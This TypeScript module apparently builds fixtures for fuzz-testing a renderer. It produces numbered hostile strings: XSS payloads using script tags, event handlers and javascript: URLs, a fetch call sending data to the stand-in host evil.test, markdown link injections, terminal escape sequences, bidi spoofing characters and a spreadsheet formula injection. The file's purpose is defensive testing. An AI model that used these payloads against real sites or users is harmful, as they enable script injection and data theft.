/** Code that would leave a trace if anything ran it. */
const act = `window.__owned=1;fetch('http://evil.test/stolen')`

const html = [
  `<script>${act}</script>`,
  `<ScRiPt src=//evil.test/a.js></sCrIpT>`,
  `<img src=x onerror="${act}">`,
  `<img src="http://evil.test/pixel.png">`,
  `<svg onload="${act}"><script>${act}</script></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text y="9">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${act}</script></svg>#x"/></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${act}">`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<object data="http://evil.test/o.swf"></object><embed src="http://evil.test/e">`,
  `<video><source onerror="${act}"></video><audio src=http://evil.test/a.mp3 autoplay>`,
  `<link rel=stylesheet href="http://evil.test/s.css"><style>@import 'http://evil.test/i.css';</style>`,
  `<base href="http://evil.test/"><meta http-equiv=refresh content="0;url=http://evil.test/">`,
  `<form action="http://evil.test/f"><button autofocus onfocus="${act}">ok</button></form>`,
  `<details open ontoggle="${act}"><summary>x</summary></details>`,
  `<body onload="${act}"><marquee onstart="${act}">x</marquee>`,
  `<a href="javascript:${act}" autofocus onfocus="${act}">click</a>`,
  `"><script>${act}</script>`,
  `'" onmouseover="${act}" x="`,
  `</textarea></title></style></script></pre></code><script>${act}</script>`,
  `<!--<img src="--><img src=x onerror=${act}>`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `<template><script>${act}</script></template><slot onslotchange=${act}>`,
  `{{constructor.constructor("${act}")()}} \${${act}} <%= ${act} %>`,
]
const links = [
  `[click](javascript:${act})`,
  `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19vd25lZD0xPC9zY3JpcHQ+)`,
  `![pixel](http://evil.test/md.png)`,
  `![x](x"onerror="${act})`,
  `<javascript:${act}>`,
  `[x]: javascript:${act}\n[x]`,
  `http://evil.test/auto-link`,
  `[a](http://evil.test/a?q=[b](c))`,
]
const escapes = [
  '\u001b]8;;http://evil.test/osc8\u0007click\u001b]8;;\u0007',
  '\u001b]52;c;c3RvbGVu\u0007',
  '\u001b[2J\u001b[H\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007\u001bP+q544e\u001b\\',
  '\u009b31mC1\u009b0m\u0090x\u009c',
  'over\b\b\b\bwritten\rgone',
  `\u001b[3${'1;'.repeat(2000)}m`,
]
const marks = [
  '\u202Egnp.exe\u202C',
  '\u2066\u2067abc\u2069\u202Bשלום\u202C',
  'a\u0000b\u0001c\u007fd',
  '\ud800lone\udc00',
  '\u200b\u200c\u200d\ufeff\u2060',
  'Z̸̡̢͎̲̲͈̩̥͈͇a̷̙̪͙̎l̵̡̛͉͎̊͑g̵̬͠o̵'.repeat(20),
  '🏳️‍🌈👨‍👩‍👧‍👦'.repeat(50),
  'W'.repeat(20_000),
  '\u2028\u2029\u0085',
  '__proto__',
  'constructor',
  '=cmd|/c calc!A0',
]

/** Texts that must do nothing but be read: each carries a number by which it is found again. */
export function hostileStrings(count: number): readonly string[] {
  const all = [...html, ...links, ...escapes, ...marks]
  const wrap: readonly ((text: string) => string)[] = [
    (text) => text,
    (text) => `before ${text} after`,
    (text) => `\`\`\`html\n${text}\n\`\`\``,
    (text) => `# ${text}\n- ${text}\n> ${text}`,
    (text) => `**${text}** \`${text}\` *${text}*`,
    (text) => text.toUpperCase(),
    (text) => text.replaceAll('<', '<\u0000').replaceAll('javascript', 'java\tscript'),
    (text) => JSON.stringify({ text, '<img src=x onerror=alert(1)>': text }),
    (text) => `--- a/x\n+++ b/x\n@@ -1 +1 @@\n-${text}\n+${text}`,
    (text) => encodeURIComponent(text.replaceAll(/[\ud800-\udfff]/g, '')),
  ]
  return Array.from({ length: count }, (_, at) => {
    const text = all[at % all.length] ?? ''
    return `hostile-${at}: ${(wrap[Math.floor(at / all.length) % wrap.length] ?? ((same: string) => same))(text)}`
  })
}
